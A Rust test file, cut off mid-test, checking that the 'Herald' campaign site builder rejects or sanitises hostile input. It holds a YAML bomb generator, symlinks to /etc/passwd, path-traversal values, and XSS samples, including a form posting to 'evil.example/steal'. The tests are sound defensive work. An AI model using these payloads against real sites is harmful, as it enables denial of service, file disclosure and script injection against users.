//! Hostile input: every kind of broken, oversized, malicious or merely unusual file a campaign
//! folder edited by many hands can hold. Each test starts from `tests/fixtures/hostile-base`
//! (a small campaign that checks clean), breaks one thing, runs the real binary and asserts
//! the diagnostic's code, file and line, the exit code, and that no file outside `output/`
//! changed. See the README's "Safety" section for the limits these tests hold Herald to.

mod common;

use common::*;
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

fn base() -> Campaign {
    Campaign::fixture("hostile-base")
}

/// Every file of the campaign outside `output/` (symbolic links as their target), so a test
/// can prove that nothing Herald was given changed.
fn sources(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    for e in walkdir::WalkDir::new(root).follow_links(false) {
        let Ok(e) = e else { continue };
        let rel = e
            .path()
            .strip_prefix(root)
            .unwrap()
            .to_string_lossy()
            .into_owned();
        if rel == "output" || rel.starts_with("output/") || rel.starts_with(".herald-") {
            continue;
        }
        if e.file_type().is_symlink() {
            let target = fs::read_link(e.path()).unwrap();
            out.insert(rel, target.to_string_lossy().as_bytes().to_vec());
        } else if e.file_type().is_file() {
            out.insert(
                rel,
                fs::read(e.path()).unwrap_or_else(|e| e.to_string().into_bytes()),
            );
        }
    }
    out
}

/// Runs herald and checks that it left every source file as it was.
fn run(c: &Campaign, args: &[&str]) -> Output {
    let before = sources(c.root());
    let out = c.herald(args);
    let after = sources(c.root());
    assert!(
        before == after,
        "herald {args:?} changed files outside output/: {:?}",
        before
            .keys()
            .chain(after.keys())
            .filter(|k| before.get(*k) != after.get(*k))
            .collect::<Vec<_>>()
    );
    out
}

/// `herald check --format json`: exit code and report. Never a crash.
fn check(c: &Campaign) -> (i32, Value) {
    let out = run(c, &["check", "--format", "json"]);
    let code = out
        .status
        .code()
        .unwrap_or_else(|| panic!("herald was killed by a signal: {}", stderr(&out)));
    assert!(
        !stderr(&out).contains("panicked") && !stderr(&out).contains("overflow"),
        "{}",
        stderr(&out)
    );
    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            stderr(&out)
        )
    });
    (code, report)
}

fn listing(report: &Value) -> String {
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            format!(
                "{} {} {}:{}:{} {}",
                d["severity"].as_str().unwrap_or(""),
                d["code"].as_str().unwrap_or(""),
                d["file"].as_str().unwrap_or("-"),
                d["line"],
                d["column"],
                d["message"].as_str().unwrap_or("")
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The one diagnostic with this code and file.
fn diag<'a>(report: &'a Value, code: &str, file: &str) -> &'a Value {
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == code && d["file"] == file)
        .unwrap_or_else(|| panic!("no {code} for {file} in:\n{}", listing(report)))
}

fn has_code(report: &Value, code: &str) -> bool {
    !with_code(report, code).is_empty()
}

fn write_bytes(c: &Campaign, rel: &str, bytes: &[u8]) {
    let p = c.root().join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

fn page(title: &str, body: &str) -> String {
    format!("---\ntitle: {title}\nsummary: A page.\nreviewed: 2026-10-01\n---\n{body}\n")
}

// ---------------------------------------------------------------------------------------
// 1. Clear errors, never a panic.

#[test]
fn the_base_fixture_is_clean() {
    let c = base();
    let (code, report) = check(&c);
    assert_eq!(code, 0, "{}", listing(&report));
    assert_eq!(report["summary"]["warnings"], 0, "{}", listing(&report));
}

#[test]
fn malformed_yaml_names_the_line() {
    let c = base();
    c.write(
        "content/en/work/bad.md",
        "---\ntitle: Bad\nsummary: [unclosed\naudiences: women\n---\nText\n",
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let d = diag(&report, "invalid-front-matter", "content/en/work/bad.md");
    assert!(d["line"].as_u64().unwrap() >= 3, "{d}");
}

fn bomb(key: &str) -> String {
    let mut lines =
        vec![r#"a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]"#.to_string()];
    let mut prev = 'a';
    for n in "bcdefghi".chars() {
        lines.push(format!(
            "{n}: &{n} [{}]",
            vec![format!("*{prev}"); 9].join(",")
        ));
        prev = n;
    }
    lines.push(format!("{key}: *i"));
    lines.join("\n") + "\n"
}

#[test]
fn a_yaml_bomb_is_refused_quickly() {
    let c = base();
    c.write(
        "content/en/work/bomb.md",
        &format!("---\ntitle: Bomb\n{}---\nText\n", bomb("extra")),
    );
    let start = Instant::now();
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "{:?}",
        start.elapsed()
    );
    let d = diag(&report, "invalid-front-matter", "content/en/work/bomb.md");
    assert!(d["message"].as_str().unwrap().contains("aliases"), "{d}");
    assert!(d["line"].as_u64().is_some(), "{d}");

    // In the partner registry and in campaign.yaml too.
    let c = base();
    c.write("content/partners.yaml", &format!("{}- id: x\n", bomb("y")));
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    diag(&report, "invalid-partners", "content/partners.yaml");

    let c = base();
    let config = c.read("campaign.yaml");
    c.write("campaign.yaml", &format!("{config}{}", bomb("audiences")));
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    diag(&report, "invalid-config", "campaign.yaml");
}

#[test]
fn front_matter_without_its_closing_line() {
    let c = base();
    c.write(
        "content/en/work/open.md",
        "---\ntitle: Open\n\nThe body starts here.\n",
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let d = diag(&report, "invalid-front-matter", "content/en/work/open.md");
    assert_eq!(d["line"], 1);
    assert!(
        d["message"].as_str().unwrap().contains("never closed"),
        "{d}"
    );
}

#[test]
fn invalid_utf8_names_the_line() {
    let c = base();
    write_bytes(
        &c,
        "content/en/work/latin1.md",
        b"---\ntitle: Caf\xe9\n---\nText\n",
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let d = diag(&report, "invalid-encoding", "content/en/work/latin1.md");
    assert_eq!(d["line"], 2, "{d}");
    assert_eq!(d["column"], 11, "{d}");
}

#[test]
fn a_binary_file_where_a_page_should_be() {
    let c = base();
    // A PNG saved as a page, and a "text" file full of NUL bytes (valid UTF-8).
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend(std::iter::repeat_n(0u8, 200));
    write_bytes(&c, "content/en/work/photo.md", &png);
    write_bytes(&c, "content/en/work/zeros.md", &[0u8; 4096]);
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    diag(&report, "invalid-encoding", "content/en/work/photo.md");
    let d = diag(&report, "invalid-encoding", "content/en/work/zeros.md");
    assert!(d["message"].as_str().unwrap().contains("binary"), "{d}");
}

#[test]
fn a_50_mb_page_is_refused_without_reading_it() {
    let c = base();
    let para = "Every worker has the right to be paid on time, in full. ".repeat(20) + "\n\n";
    let body = para.repeat(50 * 1024 * 1024 / para.len() + 1);
    c.write("content/en/work/huge.md", &page("Huge", &body));
    let start = Instant::now();
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "{:?}",
        start.elapsed()
    );
    let d = diag(&report, "file-too-large", "content/en/work/huge.md");
    assert!(d["message"].as_str().unwrap().contains("2 MiB"), "{d}");
    // The limit is on files, not pages in general: 1.5 MiB is fine.
    let c = base();
    c.write(
        "content/en/work/long.md",
        &page("Long", &para.repeat(1536 * 1024 / para.len())),
    );
    let (_, report) = check(&c);
    assert!(!has_code(&report, "file-too-large"), "{}", listing(&report));
}

#[test]
fn ten_thousand_levels_of_nesting_never_overflow() {
    let cases = [
        ("list", "- ".repeat(10_000) + "deep"),
        ("quote", ">".repeat(10_000) + " deep"),
        ("ordered", "1. ".repeat(10_000) + "deep"),
        ("mixed", "> - ".repeat(5_000) + "deep"),
        ("emphasis", "*a ".repeat(10_000) + &"*".repeat(10_000)),
        ("links", "[".repeat(10_000) + "x" + &"](u)".repeat(10_000)),
        (
            "indented",
            (0..1_000)
                .map(|i| "  ".repeat(i) + "- x\n")
                .collect::<Vec<_>>()
                .concat(),
        ),
    ];
    let c = base();
    for (name, body) in &cases {
        c.write(&format!("content/en/work/{name}.md"), &page(name, body));
    }
    let (code, report) = check(&c);
    assert_eq!(code, 1, "{}", listing(&report));
    for name in ["list", "quote", "ordered", "mixed"] {
        let d = diag(
            &report,
            "nesting-too-deep",
            &format!("content/en/work/{name}.md"),
        );
        assert_eq!(d["line"], 6, "{d}");
    }
    // And the build (HTML, print packs, search, bundles) does not crash on any of them.
    let out = run(&c, &["build"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
}

#[test]
fn the_nesting_guard_itself_needs_little_stack() {
    // The checks' guard runs pulldown-cmark over the page: it must not overflow even a
    // small thread stack (rayon's workers have 2 MiB; this one has 256 KiB).
    let body = ">".repeat(10_000) + " deep\n" + &"- ".repeat(10_000);
    let text = format!("---\ntitle: Deep\n---\n{body}\n");
    let handle = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(move || {
            let mut diags = Vec::new();
            let page = herald::load::parse_page(
                0,
                "deep.md",
                "content/en/deep.md",
                text,
                "en",
                &mut diags,
            )
            .expect("a deep page still loads");
            let at = herald::render::markdown::too_deep(&herald::check::page_events(&page));
            (at, diags.len())
        })
        .unwrap();
    let (at, diags) = handle.join().expect("no stack overflow");
    assert_eq!(at, Some(100), "the 101st `>` opens the quote too many");
    assert_eq!(diags, 0);
}

#[test]
fn a_fluent_file_of_junk() {
    let c = base();
    let mut junk = Vec::new();
    let mut x: u32 = 12345;
    for _ in 0..20_000 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        junk.push(b"{}[]*=-.#\n \"\\$ab01"[(x >> 16) as usize % 18]);
    }
    write_bytes(&c, "locales/fr/junk.ftl", &junk);
    c.write(
        "locales/fr/deep.ftl",
        &format!("deep = {}x{}\n", "{ ".repeat(10_000), " }".repeat(10_000)),
    );
    c.write(
        "locales/fr/main.ftl",
        &(c.read("locales/fr/main.ftl") + "broken = { $x\nalso-broken = { $y\n"),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    diag(&report, "fluent-syntax", "locales/fr/junk.ftl");
    let d = diag(&report, "fluent-syntax", "locales/fr/deep.ftl");
    assert_eq!(d["line"], 1);
    // Both errors of main.ftl, not just the first.
    let main: Vec<_> = with_code(&report, "fluent-syntax")
        .into_iter()
        .filter(|d| d["file"] == "locales/fr/main.ftl")
        .collect();
    assert!(main.len() >= 2, "{}", listing(&report));
}

#[test]
fn a_tera_template_error_names_the_file_and_line() {
    let c = base();
    let page_tpl = "themes/default/templates/page.html";
    let text = c.read(page_tpl);
    let broken = text.replacen(
        "{% block main %}",
        "{% block main %}\n{% if page.title %}",
        1,
    );
    assert_ne!(text, broken);
    c.write(page_tpl, &broken);
    let home = "themes/default/templates/home.html";
    c.write(home, &c.read(home).replacen("{{", "{{ )", 1));
    let (code, report) = check(&c);
    assert_eq!(code, 1, "{}", listing(&report));
    let d = diag(&report, "template-error", page_tpl);
    assert!(d["line"].as_u64().is_some(), "{d}");
    // Every broken template is reported, not only the first.
    let d = diag(&report, "template-error", home);
    assert!(d["line"].as_u64().is_some(), "{d}");
    let out = run(&c, &["build"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(!c.root().join("output").exists());
}

#[test]
fn an_unknown_locale_code() {
    let c = base();
    let config = c.read("campaign.yaml").replace(
        "locales: [en, fr]",
        "locales: [en, fr, français, ../../etc]",
    );
    c.write("campaign.yaml", &config);
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let errors = with_code(&report, "invalid-config");
    assert_eq!(errors.len(), 2, "{}", listing(&report));
    assert!(errors
        .iter()
        .all(|d| d["file"] == "campaign.yaml" && d["line"] == 3));
}

#[test]
fn a_locale_folder_missing() {
    let c = base();
    let config = c
        .read("campaign.yaml")
        .replace("locales: [en, fr]", "locales: [en, fr, es]");
    c.write("campaign.yaml", &config);
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let d = diag(&report, "missing-translation", "content/es/work/rights.md");
    assert_eq!(d["locale"], "es");
    diag(&report, "missing-message", "locales/es/main.ftl");
}

#[test]
fn a_symlink_loop_and_links_out_of_the_campaign() {
    let outside = tempfile::tempdir().unwrap();
    fs::write(
        outside.path().join("secret.md"),
        "---\ntitle: SECRET-PAGE\n---\nSECRET\n",
    )
    .unwrap();
    fs::write(outside.path().join("secret.svg"), "<svg>SECRET-ASSET</svg>").unwrap();
    fs::write(
        outside.path().join("secret.ftl"),
        "secret = SECRET-MESSAGE\n",
    )
    .unwrap();
    let c = base();
    let r = c.root();
    use std::os::unix::fs::symlink;
    symlink("loop-b", r.join("content/en/loop-a")).unwrap();
    symlink("loop-a", r.join("content/en/loop-b")).unwrap();
    symlink(".", r.join("content/en/work/self")).unwrap();
    symlink(outside.path(), r.join("content/en/outside")).unwrap();
    symlink(
        outside.path().join("secret.md"),
        r.join("content/en/work/secret.md"),
    )
    .unwrap();
    symlink(
        outside.path().join("secret.svg"),
        r.join("content/assets/secret.svg"),
    )
    .unwrap();
    symlink(
        outside.path().join("secret.ftl"),
        r.join("locales/fr/secret.ftl"),
    )
    .unwrap();
    symlink("/etc/passwd", r.join("content/en/passwd.md")).unwrap();
    let (code, report) = check(&c);
    assert_eq!(code, 0, "{}", listing(&report));
    for link in [
        "content/en/loop-a",
        "content/en/loop-b",
        "content/en/work/self",
        "content/en/outside",
        "content/en/work/secret.md",
        "content/assets/secret.svg",
        "locales/fr/secret.ftl",
        "content/en/passwd.md",
    ] {
        diag(&report, "symlink-skipped", link);
    }
    let out = run(&c, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_nothing_from_outside(&c.root().join("output"));
}

fn assert_nothing_from_outside(output: &Path) {
    if !output.exists() {
        return;
    }
    for e in walkdir::WalkDir::new(output) {
        let e = e.unwrap();
        assert!(
            !e.file_type().is_symlink(),
            "{} is a link",
            e.path().display()
        );
        if e.file_type().is_file() {
            let bytes = fs::read(e.path()).unwrap();
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains("SECRET") && !text.contains("root:x:0"),
                "{} holds an outside file",
                e.path().display()
            );
        }
    }
}

#[test]
fn linked_folders_are_not_followed_either() {
    let outside = tempfile::tempdir().unwrap();
    fs::create_dir_all(outside.path().join("work")).unwrap();
    fs::write(
        outside.path().join("work/rights.md"),
        "---\ntitle: SECRET\n---\nSECRET\n",
    )
    .unwrap();
    fs::write(outside.path().join("dot.svg"), "<svg>SECRET</svg>").unwrap();
    fs::write(outside.path().join("main.ftl"), "campaign-title = SECRET\n").unwrap();
    let c = base();
    let r = c.root();
    use std::os::unix::fs::symlink;
    // content/fr, content/assets and locales/fr are links to a folder outside the campaign.
    fs::remove_dir_all(r.join("content/fr")).unwrap();
    symlink(outside.path(), r.join("content/fr")).unwrap();
    fs::remove_dir_all(r.join("content/assets")).unwrap();
    symlink(outside.path(), r.join("content/assets")).unwrap();
    fs::remove_dir_all(r.join("locales/fr")).unwrap();
    symlink(outside.path(), r.join("locales/fr")).unwrap();
    let (code, report) = check(&c);
    assert_eq!(code, 1, "{}", listing(&report));
    diag(&report, "symlink-skipped", "content/fr");
    diag(&report, "symlink-skipped", "content/assets");
    diag(&report, "symlink-skipped", "locales/fr");
    diag(&report, "missing-translation", "content/fr/work/rights.md");
    diag(&report, "broken-link", "content/en/work/rights.md");
    let out = run(&c, &["build", "--allow-incomplete"]);
    assert_nothing_from_outside(&c.root().join("output"));
    drop(out);

    // A theme reached through a link, and a theme named with a path.
    let c = base();
    let r = c.root();
    let theme = tempfile::tempdir().unwrap();
    copy_dir(&r.join("themes/default"), theme.path());
    fs::remove_dir_all(r.join("themes/default")).unwrap();
    symlink(theme.path(), r.join("themes/default")).unwrap();
    let (code, report) = check(&c);
    assert_eq!(code, 1, "{}", listing(&report));
    let c = base();
    let config = c.read("campaign.yaml");
    c.write("campaign.yaml", &format!("{config}theme: ../../../etc\n"));
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let d = diag(&report, "invalid-config", "campaign.yaml");
    assert!(d["message"].as_str().unwrap().contains("theme"), "{d}");
}

fn running_as_root() -> bool {
    use std::os::unix::fs::MetadataExt;
    fs::metadata("/proc/self")
        .map(|m| m.uid() == 0)
        .unwrap_or(false)
}

/// Runs herald as an unprivileged user when the tests run as root: root reads files whatever
/// their permissions (CAP_DAC_OVERRIDE), so `chmod 000` would prove nothing.
fn herald_unprivileged(c: &Campaign, args: &[&str]) -> Output {
    use std::os::unix::process::CommandExt;
    // As `nobody`, the binary must be reachable too: CI keeps its target folder under the
    // root user's home (mode 0700), so the test runs a copy from a world-readable folder.
    let bin_dir = tempfile::Builder::new()
        .prefix("herald-bin")
        .tempdir_in(std::env::temp_dir())
        .unwrap();
    let bin = bin_dir.path().join("herald");
    if running_as_root() {
        fs::copy(env!("CARGO_BIN_EXE_herald"), &bin).unwrap();
        chmod(bin_dir.path(), 0o755);
        chmod(&bin, 0o755);
    }
    let program = if running_as_root() {
        bin.clone()
    } else {
        PathBuf::from(env!("CARGO_BIN_EXE_herald"))
    };
    let mut cmd = Command::new(&program);
    cmd.args(args)
        .arg("--root")
        .arg(c.root())
        .env("HERALD_TODAY", "2026-12-01")
        .env("NO_COLOR", "1");
    if running_as_root() {
        // `nobody`: the campaign must be readable by others, except what the test locks.
        cmd.uid(65534).gid(65534);
    }
    cmd.output().unwrap()
}

fn chmod(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn files_and_folders_unreadable_by_permissions() {
    let c = base();
    let r = c.root();
    for e in walkdir::WalkDir::new(r) {
        let e = e.unwrap();
        chmod(e.path(), if e.file_type().is_dir() { 0o755 } else { 0o644 });
    }
    c.write("content/en/locked/page.md", &page("Locked", "Text"));
    chmod(&r.join("content/en/work/rights.md"), 0o000);
    chmod(&r.join("content/en/locked"), 0o000);
    chmod(&r.join("locales/fr/main.ftl"), 0o000);
    let out = herald_unprivileged(&c, &["check", "--format", "json"]);
    let report: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&out)));
    assert_eq!(out.status.code(), Some(1), "{}", listing(&report));
    let d = diag(&report, "unreadable-file", "content/en/work/rights.md");
    assert!(d["message"].as_str().unwrap().contains("ermission"), "{d}");
    diag(&report, "unreadable-file", "content/en/locked");
    diag(&report, "unreadable-file", "locales/fr/main.ftl");
    // A page that cannot be read is not also reported as missing in French.
    assert!(
        with_code(&report, "orphan-translation").is_empty(),
        "{}",
        listing(&report)
    );

    // An unreadable campaign.yaml: Herald cannot run at all (exit 2).
    chmod(&r.join("campaign.yaml"), 0o000);
    let out = herald_unprivileged(&c, &["check"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("campaign.yaml"), "{}", stderr(&out));
    chmod(&r.join("content/en/locked"), 0o755);
}

#[test]
fn pipes_and_devices_are_not_pages() {
    let c = base();
    // A named pipe would block a reader forever: it is not a regular file, so it is skipped.
    let fifo = c.root().join("content/en/work/pipe.md");
    let made = Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        eprintln!("skipped: mkfifo is not available");
        return;
    }
    let start = Instant::now();
    let (code, report) = check(&c);
    assert!(start.elapsed() < Duration::from_secs(30));
    assert_eq!(code, 0, "{}", listing(&report));
    // And as the partner registry, which Herald reads by name.
    fs::remove_file(c.root().join("content/partners.yaml")).unwrap();
    Command::new("mkfifo")
        .arg(c.root().join("content/partners.yaml"))
        .status()
        .unwrap();
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    diag(&report, "unreadable-file", "content/partners.yaml");
}

#[test]
fn check_reports_every_problem_of_a_run() {
    let c = base();
    c.write("content/en/work/a.md", "---\ntitle: [\n---\n");
    write_bytes(&c, "content/en/work/b.md", b"---\ntitle: \xff\n---\n");
    c.write("content/en/work/c.md", "---\ntitle: C\n");
    c.write(
        "content/en/work/d.md",
        &page("D", &("- ".repeat(500) + "x")),
    );
    c.write("locales/fr/extra.ftl", "= = =\n");
    c.write("content/en/work/e.md", &page("E", "[x](@/nowhere.md)"));
    let tpl = "themes/default/templates/section.html";
    c.write(tpl, &(c.read(tpl) + "{% endif %}"));
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    for (code, file) in [
        ("invalid-front-matter", "content/en/work/a.md"),
        ("invalid-encoding", "content/en/work/b.md"),
        ("invalid-front-matter", "content/en/work/c.md"),
        ("nesting-too-deep", "content/en/work/d.md"),
        ("fluent-syntax", "locales/fr/extra.ftl"),
        ("broken-link", "content/en/work/e.md"),
        ("template-error", tpl),
    ] {
        diag(&report, code, file);
    }
}

// Unusual but valid input just works.

#[test]
fn bom_crlf_nfd_and_any_script() {
    let c = base();
    // A BOM and CRLF line endings in a page, a Fluent file and campaign.yaml.
    let crlf = |s: &str| format!("\u{feff}{}", s.replace('\n', "\r\n"));
    c.write(
        "content/en/work/rights.md",
        &crlf(&c.read("content/en/work/rights.md")),
    );
    c.write("locales/en/main.ftl", &crlf(&c.read("locales/en/main.ftl")));
    c.write("campaign.yaml", &crlf(&c.read("campaign.yaml")));
    // The English page's name in NFD (as macOS writes it), its French translation's in NFC.
    let nfd = "content/en/work/se\u{301}curite\u{301}.md";
    let nfc = "content/fr/work/s\u{e9}curit\u{e9}.md";
    c.write(nfd, &page("Safety", "Stay safe."));
    c.write(nfc, &page("Sécurité", "Restez en sécurité."));
    // File names in other scripts, linked from a page.
    c.write("content/en/حقوق.md", &page("Rights (Arabic name)", "Text."));
    c.write(
        "content/en/εργασία/δικαιώματα.md",
        &page("Rights (Greek name)", "Text."),
    );
    c.write(
        "content/en/права.md",
        &page(
            "Rights (Cyrillic name)",
            "[Greek](@/εργασία/δικαιώματα.md) [Arabic](@/حقوق.md)",
        ),
    );
    for f in [
        "content/fr/حقوق.md",
        "content/fr/εργασία/δικαιώματα.md",
        "content/fr/права.md",
    ] {
        c.write(f, &page("Droits", "Texte."));
    }
    let (code, report) = check(&c);
    assert_eq!(code, 0, "{}", listing(&report));
    for bad in [
        "missing-translation",
        "orphan-translation",
        "invalid-encoding",
        "broken-link",
    ] {
        assert!(!has_code(&report, bad), "{}", listing(&report));
    }
    let out = run(&c, &["build", "--only", "site"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let site = c.site();
    assert!(site.join("en/work/s\u{e9}curit\u{e9}/index.html").is_file());
    assert!(site.join("fr/work/s\u{e9}curit\u{e9}/index.html").is_file());
    assert!(site.join("en/εργασία/δικαιώματα/index.html").is_file());
    let cyr = fs::read_to_string(site.join("en/права/index.html")).unwrap();
    assert!(
        cyr.contains(&format!(
            "href=\"../{}/index.html\"",
            percent("εργασία/δικαιώματα")
        )),
        "{cyr}"
    );
    let rights = fs::read_to_string(site.join("en/work/rights/index.html")).unwrap();
    assert!(!rights.contains('\u{feff}') && !rights.contains('\r'));
}

/// Non-ASCII bytes percent-encoded, as pulldown-cmark writes link targets.
fn percent(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

// ---------------------------------------------------------------------------------------
// 3. Nothing gets in.

const HOSTILE_HTML: &str = r#"## Pay {#pay}

Say <span lang="fr">bonjour</span>.

<script>alert("script")</script>

<p onclick="alert('click')" style="position:fixed">Click</p>

<a href="javascript:alert('js')">js</a> <a href="jav&#x61;script:alert('entity')">entity</a>

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>

<style>body { display: none }</style>

<img src="x.png" alt="X" onerror="alert('img')">

<details><summary>More</summary>Hidden text</details>

[markdown js](javascript:alert('md'))

![A dot](@/assets/dot.svg)

| a | b |
|:-:|--:|
| 1 | 2 |

- [x] done
"#;

#[test]
fn raw_html_is_sanitised_with_a_warning_naming_page_and_line() {
    let c = base();
    c.write(
        "content/en/work/rights.md",
        &c.read("content/en/work/rights.md")
            .replace("## Pay\n", HOSTILE_HTML),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 0, "{}", listing(&report));
    let file = "content/en/work/rights.md";
    let unsafe_html: Vec<_> = with_code(&report, "unsafe-html")
        .into_iter()
        .filter(|d| d["file"] == file && d["severity"] == "warning")
        .collect();
    let lines: Vec<u64> = unsafe_html
        .iter()
        .map(|d| d["line"].as_u64().unwrap())
        .collect();
    // script (12), onclick + style (14), two javascript: links (16), iframe (18),
    // form + input + button (20), style (22), onerror (24), details + summary (26).
    for line in [12, 14, 16, 18, 20, 22, 24, 26] {
        assert!(
            lines.contains(&line),
            "no unsafe-html on line {line}: {}",
            listing(&report)
        );
    }
    assert!(
        !lines.contains(&10),
        "the lang span is fine: {}",
        listing(&report)
    );
    let md = diag(&report, "unsafe-link", file);
    assert_eq!(md["line"], 28);

    let out = run(&c, &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let html = fs::read_to_string(c.site().join("en/work/rights/index.html")).unwrap();
    let main = &html[html.find("<main").unwrap()..html.find("</main>").unwrap()];
    for bad in [
        "alert",
        "<script",
        "onclick",
        "javascript",
        "<iframe",
        "<form",
        "<input name",
        "<button",
        "position:fixed",
        "display: none",
        "onerror",
        "evil.example",
        "<details",
    ] {
        assert!(!main.contains(bad), "{bad} is in the page:\n{main}");
    }
    for good in [
        r#"<h2 id="pay">"#,
        r#"<span lang="fr">bonjour</span>"#,
        r#"<img src="x.png" alt="X">"#,
        r#"width="10" height="10""#,
        r#"loading="lazy" decoding="async""#,
        r#"<th style="text-align: center">"#,
        r#"<input disabled="" type="checkbox" checked=""/>"#,
    ] {
        assert!(main.contains(good), "{good} is missing:\n{main}");
    }
}

#[test]
fn a_reviewed_allow_list_adds_tags_but_never_scripts() {
    let c = base();
    c.write(
        "content/en/work/rights.md",
        &c.read("content/en/work/rights.md")
            .replace("## Pay\n", HOSTILE_HTML),
    );
    c.write(
        "campaign.yaml",
        &(c.read("campaign.yaml") + "allow_html: [details, summary]\n"),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 0, "{}", listing(&report));
    assert!(
        with_code(&report, "unsafe-html")
            .iter()
            .all(|d| d["line"] != 26),
        "{}",
        listing(&report)
    );
    let out = run(&c, &["build", "--only", "site"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let html = fs::read_to_string(c.site().join("en/work/rights/index.html")).unwrap();
    assert!(
        html.contains("<details><summary>More</summary>Hidden text</details>"),
        "{html}"
    );
    assert!(!html.contains("alert("));

    let c = base();
    c.write(
        "campaign.yaml",
        &(c.read("campaign.yaml") + "allow_html: [details, script, iframe, \"<b>\"]\n"),
    );
    let (code, report) = check(&c);
    assert_eq!(code, 1);
    let errors = with_code(&report, "invalid-config");
    assert_eq!(errors.len(), 3, "{}", listing(&report));
    assert!(
        errors.iter().all(|d| d["line"] == 7),
        "{}",
        listing(&report)
    );
}

#[test]
fn front_matter_partner_names_and_fluent_strings_are_escaped() {
    let c = base();
    let xss = r#"<script>alert("x")</script> & "quoted" 'single'"#;
    c.write(
        "content/en/work/rights.md",
        &c.read("content/en/work/rights.md")
            .replace("title: Your rights at work", &format!("title: '{}'", xss.replace('\'', "''")))
            .replace("summary: What your employer must do.", &format!("summary: '{}'", xss.replace('\'', "''")))
            .replace("audiences: [women]", "audiences: [women]\nsources:\n  - { title: '<script>alert(1)</script>', url: 'https://example.org/?a=1&b=x' }"),
    );
    c.write(
        "content/partners.yaml",
        &c.read("content/partners.yaml").replace(
            "name: Town Council",
            &format!("name: '{}'", xss.replace('\'', "''")),
        ),
    );
    c.write(
        "locales/en/main.ftl",
        &format!(
            "campaign-title = {xss}\nhotline = Call <script>alert(\"h\")</script> {{ $number }}\n"
        ),
    );
    c.write(
        "locales/fr/main.ftl",
        &(c.read("locales/fr/main.ftl") + "hotline = Appelez le { $number }\n"),
    );
    c.write(
        "campaign.yaml",
        &(c.read("campaign.yaml") + "hotline: '\"><script>alert(2)</script>'\n"),
    );
    let out = run(&c, &["build", "--only", "site"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for f in html_files(&c.site()) {
        let html = fs::read_to_string(c.site().join(&f)).unwrap();
        assert!(
            !html.contains("<script>alert"),
            "{}: unescaped script",
            f.display()
        );
        assert!(
            !html.contains("href=\"javascript:"),
            "{}: javascript: URL",
            f.display()
        );
        let doc = scraper::Html::parse_document(&html);
        for el in doc
            .root_element()
            .descendants()
            .filter_map(scraper::ElementRef::wrap)
        {
            for (name, value) in el.value().attrs() {
                assert!(
                    !name.starts_with("on")
                        && !value.contains('\u{2068}')
                        && !value.contains('\u{2069}'),
                    "{}: <{} {name}={value:?}>",
                    f.display(),
                    el.value().name()
                );
            }
        }
    }
    let html = fs::read_to_string(c.site().join("en/work/rights/index.html")).unwrap();
    let doc = scraper::Html::parse_document(&html);
    let h1 = scraper::Selector::parse("h1").unwrap();
    let title: String = doc.select(&h1).next().unwrap().text().collect();
    assert_eq!(title.trim(), xss, "the title reads as written");
    let meta = scraper::Selector::parse("meta[name=description]").unwrap();
    if let Some(m) = doc.select(&meta).next() {
        assert_eq!(m.value().attr("content"), Some(xss));
    }
    assert!(
        html.contains("Call &lt;script&gt;alert(&quot;h&quot;)&lt;/script&gt;"),
        "{html}"
    );
}

#[test]
fn only_web_addresses_go_into_hrefs_from_yaml() {
    let c = base();
    c.write(
        "content/en/work/rights.md",
        &c.read("content/en/work/rights.md").replace(
            "audiences: [women]",
